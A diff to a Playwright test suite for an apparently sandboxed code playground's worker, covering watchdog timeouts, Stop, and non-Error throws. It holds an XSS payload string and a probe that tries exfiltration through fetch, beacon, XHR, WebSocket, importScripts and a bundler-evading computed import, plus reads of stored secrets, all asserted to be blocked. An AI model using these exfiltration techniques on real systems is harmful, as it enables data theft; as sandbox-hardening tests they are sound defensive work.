@@ -4,7 +4,7 @@
  * page, its storage or the network. After each, the playground compiles and runs again.
  */
 import { expect, test, type Page } from '@playwright/test';
-import { allEvents, compile, expectWorking, nextCompiled, openWorkerPage, run } from './worker-page';
+import { allEvents, compile, compiledAfterRestart, expectWorking, openWorkerPage, run } from './worker-page';
 import type { WorkerEvent } from '../src/worker/protocol';
 
 const TIMEOUT_MS = 2000;
@@ -55,7 +55,7 @@ test('while (true) in a node: the watchdog stops it, names the node, and the pag
   expect(events).toContainEqual(expect.objectContaining({ type: 'node-failed', node: 'spin' }));
   expect(await restarted).toMatchObject({ reason: 'timeout', node: 'spin', message: expect.stringContaining('node spin') });
   // The fresh worker rebuilds the last project, so the graph is back without an edit.
-  const again = await nextCompiled(page);
+  const again = await compiledAfterRestart(page);
   expect(again.graph?.nodes.map((n) => n.name)).toContain('spin');
   await expectWorking(page);
 });
@@ -83,10 +83,8 @@ test('Stop ends a running node at once', async ({ page }) => {
   const { finished } = await running;
   expect(finished.error?.name).toBe('AbortError');
   expect(await restarted).toMatchObject({ reason: 'stopped', node: 'spin' });
-  const recompiledAt = await page.evaluate(
-    () => new Promise<number>((resolve) => window.workerTest.host.subscribe((e) => e.type === 'compiled' && resolve(performance.now()))),
-  );
-  expect(recompiledAt - stoppedAt).toBeLessThan(TIMEOUT_MS);
+  const again = await compiledAfterRestart(page);
+  expect(again.receivedAt - stoppedAt).toBeLessThan(TIMEOUT_MS);
   await expectWorking(page);
 });
 
@@ -118,12 +116,17 @@ test('a node that throws a non-Error value', async ({ page }) => {
   await compile(page, [
     { name: 't.ts', code: "export function s(x: number): number {\n  throw 'plain string';\n}\nexport function o(x: number): number {\n  throw { code: 7, html: '<img src=x onerror=\"window.__pwned=1\">' };\n}\n" },
   ]);
-  const { events } = await run(page, { inputs: { x: 1 } });
-  const failures = events.filter((e) => e.type === 'node-failed');
-  expect(failures).toEqual([
-    expect.objectContaining({ node: 's', error: { name: 'NonErrorThrown', message: 'a non-Error value was thrown: "plain string"' } }),
-    expect.objectContaining({ node: 'o', error: expect.objectContaining({ name: 'NonErrorThrown', message: expect.stringContaining('"code":7') }) }),
-  ]);
+  const s = await run(page, { outputs: ['s'], inputs: { x: 1 } });
+  expect(s.events.find((e) => e.type === 'node-failed')).toMatchObject({
+    node: 's',
+    error: { name: 'NonErrorThrown', message: 'a non-Error value was thrown: "plain string"' },
+  });
+  const o = await run(page, { outputs: ['o'], inputs: { x: 1 } });
+  expect(o.events.find((e) => e.type === 'node-failed')).toMatchObject({
+    node: 'o',
+    error: { name: 'NonErrorThrown', message: expect.stringContaining('"code":7') },
+  });
+  expect(o.finished).toMatchObject({ ok: false, error: { message: expect.stringContaining('Node o') } });
   expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
   await expectWorking(page);
 });
@@ -181,11 +184,14 @@ export async function attempts(x: number): Promise<Record<string, string>> {
   const g = globalThis as any;
   return {
     fetchSameOrigin: await attempt(() => fetch('/worker-test.html?exfil=fetch')),
-    fetchAbsolute: await attempt(() => fetch(location.origin.replace('null', '') + 'http://127.0.0.1:${4175}/?exfil=abs')),
+    fetchAbsolute: await attempt(() => fetch('http://127.0.0.1:4175/?exfil=abs')),
+    fetchElsewhere: await attempt(() => fetch('https://example.com/?exfil=remote', { mode: 'no-cors' })),
+    beacon: await attempt(() => (g.navigator.sendBeacon ? (g.navigator.sendBeacon('http://127.0.0.1:4175/?exfil=beacon', 'x') ? 'sent' : (() => { throw new Error('refused'); })()) : (() => { throw new Error('absent'); })())),
     xhr: await attempt(() => { const r = new XMLHttpRequest(); r.open('GET', 'http://127.0.0.1:4175/?exfil=xhr', false); r.send(); return r.status; }),
     webSocket: await attempt(() => new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:4175/?exfil=ws'); s.onopen = () => ok('open'); s.onerror = () => no(new Error('ws error')); })),
     importScripts: await attempt(() => g.importScripts('http://127.0.0.1:4175/?exfil=importScripts')),
-    dynamicImport: await attempt(() => import(/* @vite-ignore */ 'http://127.0.0.1:4175/?exfil=import')),
+    // A computed specifier: a literal one is already refused by the bundler.
+    dynamicImport: await attempt(() => import(['http://127.0.0.1:4175', '?exfil=import'].join('/'))),
     localStorage: await attempt(() => g.localStorage.getItem('secret')),
     sessionStorage: await attempt(() => g.sessionStorage.getItem('secret')),
     indexedDB: await attempt(() => new Promise((ok, no) => { const r = indexedDB.open('secrets'); r.onsuccess = () => ok('opened'); r.onerror = () => no(r.error); })),
@@ -197,9 +203,10 @@ export async function attempts(x: number): Promise<Record<string, string>> {
   };
 }
 `;
-  await compile(page, [{ name: 'probe.ts', code: probe }]);
+  const compiled = await compile(page, [{ name: 'probe.ts', code: probe }]);
+  expect(compiled.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
   const { finished } = await run(page, { inputs: { x: 1 } });
-  expect(finished.ok).toBe(true);
+  expect(finished.ok, JSON.stringify(finished.error)).toBe(true);
   const result = finished.results.attempts;
   if (result.kind !== 'tree') throw new Error(JSON.stringify(result));
   const outcomes = result.value as Record<string, string>;
